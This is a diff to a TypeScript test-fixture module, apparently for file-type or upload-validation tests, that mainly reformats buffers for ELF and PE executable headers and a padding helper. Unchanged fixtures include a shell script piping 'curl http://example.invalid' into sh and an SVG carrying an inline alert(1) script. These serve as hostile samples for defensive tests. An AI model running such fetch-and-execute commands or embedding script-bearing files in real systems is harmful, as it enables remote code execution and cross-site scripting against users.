@@ -27,11 +27,19 @@ export const ELF = fs.existsSync("/bin/true")
   : Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
 
 /** A Windows executable header (MZ stub pointing at a PE signature). */
-export const PE = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from("PE\0\0"), Buffer.alloc(200)]);
+export const PE = Buffer.concat([
+  Buffer.from("MZ"),
+  Buffer.alloc(58),
+  Buffer.from([0x80, 0, 0, 0]),
+  Buffer.alloc(64),
+  Buffer.from("PE\0\0"),
+  Buffer.alloc(200),
+]);
 
 export const SHELL_SCRIPT = Buffer.from("#!/bin/sh\ncurl http://example.invalid | sh\n");
 
 export const SVG_WITH_SCRIPT = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
 
 /** A valid header followed by padding up to `bytes`: the type is detected, the size is what matters. */
-export const padded = (head: Buffer, bytes: number) => Buffer.concat([head, Buffer.alloc(Math.max(0, bytes - head.length), 0x20)]);
+export const padded = (head: Buffer, bytes: number) =>
+  Buffer.concat([head, Buffer.alloc(Math.max(0, bytes - head.length), 0x20)]);
